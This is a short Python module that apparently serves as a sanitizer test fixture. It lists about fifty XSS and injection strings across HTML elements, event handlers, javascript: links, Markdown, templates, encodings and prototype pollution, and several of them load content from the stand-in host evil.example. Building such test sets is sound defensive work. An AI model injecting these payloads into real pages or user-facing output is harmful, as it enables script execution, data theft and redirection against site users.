"""Texts that would run, load or rewrite something on a page that trusts its input; `pwn` is a trap."""

from __future__ import annotations

ELSEWHERE = "//evil.example"

PAYLOADS = (
    # Elements and handlers
    "<script>pwn()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=pwn()>",
    "<img src=//evil.example/pixel.gif>",
    '"><img src=x onerror="pwn()">',
    "'><svg/onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "<iframe src=javascript:pwn()></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<details open ontoggle=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()>",
    "<textarea autofocus onfocus=pwn()></textarea>",
    "<body onload=pwn()>",
    "<marquee onstart=pwn()>x</marquee>",
    "<object data=javascript:pwn()></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; *{background:url(//evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>pwn</button></form>",
    "<a href=javascript:pwn()>click</a>",
    "</textarea></title></style></script><script>pwn()</script>",
    "<template><script>pwn()</script></template><noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<x contenteditable onfocus=pwn() tabindex=1 autofocus>x</x>",
    # Markdown and links
    "[click](javascript:pwn())",
    "[click](JaVaScRiPt&colon;pwn())",
    "[click](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
    "[click](\x01javascript:pwn())",
    "![x](//evil.example/pixel.gif)",
    '![x](x"onerror="pwn())',
    "[x]: javascript:pwn() '><img src=x onerror=pwn()>'\n[x]",
    "<javascript:pwn()>",
    'https://shop.example/"onmouseover="pwn()" style="position:fixed;inset:0',
    "**<img src=x onerror=pwn()>** `<svg onload=pwn()>`",
    "| a | b |\n|---|---|\n| <img src=x onerror=pwn()> | [x](javascript:pwn()) |",
    # Templates, encodings, separators
    "{{constructor.constructor('pwn()')()}} ${pwn()} <%= pwn() %>",
    "{{ $el.ownerDocument.defaultView.pwn() }}",
    "&lt;img src=x onerror=pwn()&gt; &#60;script&#62;pwn()&#60;/script&#62;",
    "%3Cscript%3Epwn()%3C/script%3E",
    "\u202e<script>pwn()</script>\u2028\u2029\u200b",
    "＜script＞pwn()＜/script＞",
    "__proto__[pwn]=1 constructor.prototype.pwn",
)
